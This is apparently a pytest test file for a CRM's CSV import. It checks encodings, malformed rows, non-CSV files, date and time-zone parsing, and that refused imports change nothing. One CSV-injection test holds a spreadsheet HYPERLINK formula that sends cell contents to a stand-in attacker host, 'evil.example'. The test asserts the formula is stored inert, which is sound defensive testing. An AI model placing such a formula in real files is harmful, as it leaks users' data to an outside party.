"""The bad-input corpus for CSV import (docs/import.md): wrong encodings, broken quoting, ragged
rows, duplicate headers, formulas, dates in many formats and time zones. Each file either imports
with its documented interpretation or is refused with an error naming the line and column (or the
file problem), and a refused import leaves every table exactly as it was."""

from datetime import UTC, datetime

import pytest
from django.core.exceptions import ValidationError

from closedloop.crm.models import Contact
from closedloop.imports.models import ImportJob
from closedloop.imports.plan import ImportOptions
from closedloop.imports.services import import_file
from tests.factories import ContactFactory, UserFactory
from tests.security.db_snapshot import db_snapshot, snapshot_diff

HEADER = "Email,First Name,Last Name,Create Date\n"


@pytest.fixture
def existing(db, settings, tmp_path):
    """A database with something in it, so 'unchanged' means more than 'still empty'."""
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.TIME_ZONE = "UTC"
    UserFactory(username="mia", role="marketer")
    ContactFactory(email="kept@example.org", first_name="Kept", last_name="Before")
    return tmp_path


def _write(tmp_path, content: bytes, name: str = "in.csv"):
    path = tmp_path / name
    path.write_bytes(content)
    return path


def _refused(path, **kwargs) -> list[str]:
    """Run an import that must be refused; returns its error texts and checks nothing changed."""
    before = db_snapshot()
    try:
        job = import_file(path=path, target="contacts", **kwargs)
    except ValidationError as exc:
        errors = exc.messages
    else:
        assert job.status == ImportJob.Status.FAILED, job.summary
        errors = [f'line {e["line"]}, column "{e["column"]}": {e["message"]}' for e in job.summary["errors"]]
        assert job.summary["written"] is False
    assert not snapshot_diff(before, db_snapshot()), snapshot_diff(before, db_snapshot())
    assert errors
    return errors


def _imported(path, **kwargs) -> ImportJob:
    job = import_file(path=path, target="contacts", **kwargs)
    assert job.status == ImportJob.Status.DONE, job.summary
    return job


# -- encodings ------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig", "utf-32"])
def test_unicode_files_with_a_bom_read_back_exactly(existing, encoding):
    text = HEADER + "zoe@example.org,Zoë,Ørsted,2024-03-31\n"
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    _imported(_write(existing, data))
    contact = Contact.objects.get(email="zoe@example.org")
    assert (contact.first_name, contact.last_name) == ("Zoë", "Ørsted")


def test_windows_1252_file_is_read_as_such_with_a_note(existing):
    job = _imported(_write(existing, (HEADER + "zoe@example.org,Zoë,Dupré,2024-03-31\n").encode("cp1252")))
    assert Contact.objects.get(email="zoe@example.org").first_name == "Zoë"
    assert any("UTF-8" in note for note in job.summary["notes"]), job.summary["notes"]


# -- structure ------------------------------------------------------------------------------------


def test_unterminated_quote_is_refused_with_nothing_written(existing):
    errors = _refused(_write(existing, (HEADER + 'ada@example.org,"Ada,Lovelace,2024-03-31\n').encode()))
    assert any("line 2" in e for e in errors), errors


def test_row_with_extra_values_is_refused_naming_its_line(existing):
    body = "ok@example.org,Ok,Row,2024-03-31\nada@example.org,Ada,Lovelace,2024-03-31,surprise\n"
    errors = _refused(_write(existing, (HEADER + body).encode()))
    assert any("line 3" in e for e in errors), errors


def test_row_with_missing_values_is_refused_naming_its_line(existing):
    errors = _refused(_write(existing, (HEADER + "ada@example.org,Ada\n").encode()))
    assert any("line 2" in e for e in errors), errors


def test_duplicate_headers_name_both_columns(existing):
    errors = _refused(_write(existing, b"Email,First Name,email\nada@example.org,Ada,ada@example.org\n"))
    assert any('"email"' in e.lower() and "columns 1 and 3" in e for e in errors), errors


@pytest.mark.parametrize(
    "content",
    [b"", b"\n\n  \n", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", b"\x00" * 64],
    ids=["empty", "blank", "png", "nul-bytes"],
)
def test_files_that_are_not_csv_are_refused(existing, content):
    _refused(_write(existing, content))


def test_a_field_larger_than_the_reader_allows_is_refused(existing):
    huge = "x" * (200 * 1024 * 1024 // 100)  # 2 MB in one field, over the csv module's default limit
    _refused(_write(existing, (HEADER + f"ada@example.org,{huge},Lovelace,2024-03-31\n").encode()))


def test_one_bad_row_among_good_ones_writes_nothing(existing):
    good = "".join(f"lead{i}@example.org,Lead,{i},2024-03-31\n" for i in range(50))
    errors = _refused(_write(existing, (HEADER + good + "jane@,Jane,Doe,2024-03-31\n").encode()))
    assert errors == ["line 52, column \"Email\": 'jane@' is not a valid email address"], errors


# -- formulas (CSV injection) ---------------------------------------------------------------------


def test_formulas_are_stored_as_plain_text(existing):
    # Documented interpretation: a cell is data, never evaluated; closedloop's CSV exports put an
    # apostrophe before =, +, -, @ so a spreadsheet opening the export does not run it either.
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    path = _write(
        existing,
        (
            HEADER + f'ada@example.org,"{formula.replace(chr(34), chr(34) * 2)}",Lovelace,2024-03-31\n'
        ).encode(),
    )
    _imported(path)
    assert Contact.objects.get(email="ada@example.org").first_name == formula


# -- dates and time zones -------------------------------------------------------------------------

# (cell, time zone, expected UTC) — each expected value worked out by hand from docs/import.md.
DATES = [
    ("2024-03-31", "UTC", datetime(2024, 3, 31, 0, 0, tzinfo=UTC)),
    ("2024-03-31T14:05:09Z", "Europe/Berlin", datetime(2024, 3, 31, 14, 5, 9, tzinfo=UTC)),
    ("2024-03-31 14:05+02:00", "UTC", datetime(2024, 3, 31, 12, 5, tzinfo=UTC)),
    # Berlin switched to summer time (UTC+2) at 02:00 that morning.
    ("2024-03-31 14:05", "Europe/Berlin", datetime(2024, 3, 31, 12, 5, tzinfo=UTC)),
    ("2024-01-15 09:00", "Europe/Berlin", datetime(2024, 1, 15, 8, 0, tzinfo=UTC)),
    ("2024-01-15 09:00", "America/New_York", datetime(2024, 1, 15, 14, 0, tzinfo=UTC)),
    ("03/31/2024 2:05 PM", "UTC", datetime(2024, 3, 31, 14, 5, tzinfo=UTC)),
    ("3/31/24", "UTC", datetime(2024, 3, 31, 0, 0, tzinfo=UTC)),
    ("2024/03/31", "UTC", datetime(2024, 3, 31, 0, 0, tzinfo=UTC)),
    ("31.03.2024", "UTC", datetime(2024, 3, 31, 0, 0, tzinfo=UTC)),
    ("Mar 31, 2024", "UTC", datetime(2024, 3, 31, 0, 0, tzinfo=UTC)),
    ("31 March 2024", "UTC", datetime(2024, 3, 31, 0, 0, tzinfo=UTC)),
    ("Asia/Kolkata midnight", "Asia/Kolkata", datetime(2024, 3, 30, 18, 30, tzinfo=UTC)),
]


@pytest.mark.parametrize(("cell", "zone", "expected"), DATES, ids=[f"{d[0]}@{d[1]}" for d in DATES])
def test_dates_in_many_formats_and_zones(existing, settings, cell, zone, expected):
    settings.TIME_ZONE = zone
    if cell.endswith("midnight"):
        cell = "2024-03-31"
    _imported(_write(existing, (HEADER + f'ada@example.org,Ada,Lovelace,"{cell}"\n').encode()))
    assert Contact.objects.get(email="ada@example.org").created_at == expected


def test_day_first_option_reads_slashed_dates_day_first(existing):
    _imported(
        _write(existing, (HEADER + "ada@example.org,Ada,Lovelace,31/03/2024\n").encode()),
        options=ImportOptions(day_first=True),
    )
    assert Contact.objects.get(email="ada@example.org").created_at == datetime(2024, 3, 31, tzinfo=UTC)


@pytest.mark.parametrize(
    ("cell", "words"),
    [("31/03/2024", "day-first"), ("2024-02-30", ""), ("yesterday", ""), ("2024-13-01", "")],
)
def test_impossible_or_ambiguous_dates_are_refused_with_line_and_column(existing, cell, words):
    errors = _refused(_write(existing, (HEADER + f"ada@example.org,Ada,Lovelace,{cell}\n").encode()))
    assert len(errors) == 1 and errors[0].startswith('line 2, column "Create Date"'), errors
    assert words in errors[0]
